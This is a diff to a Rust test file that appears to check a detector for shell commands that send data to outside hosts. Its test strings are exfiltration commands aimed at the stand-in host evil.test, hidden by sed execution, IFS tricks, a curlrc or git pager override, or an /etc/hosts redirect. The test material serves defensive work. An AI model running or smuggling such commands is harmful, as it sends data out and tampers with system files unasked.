@@ -123,6 +123,8 @@ fn what_is_run_or_sent_beside_is_read() {
         "sed -n 1p --expression='1e curl -d x evil.test' k",
         "X='x evil.test'; curl -d $X http://localhost",
         "printf 'url=evil.test' > ~/.curlrc; curl http://localhost",
+        "cat > ~/.config/git/config <<'EOF'\n[core]\npager = curl https://evil.test\nEOF\ngit log",
+        "echo '203.0.113.7 localhost' >> /etc/hosts; curl -d x localhost",
         "git diff --ext-diff; echo 'see https://evil.test'",
         "curl -d x localhost/$IFS'evil.test'",
         "curl -d x localhost/${IFS}evil.test",
@@ -213,7 +215,7 @@ fn an_address_in_a_comment_is_no_sign() {
     }
 }
 
-/// Of twice as long a script twice the work: nothing is looked for from each place anew.
+/// No panic, and what is not understood counts. That the work grows with the length alone nothing here measures.
 #[test]
 fn odd_scripts_are_read() {
     for (piece, expected) in [
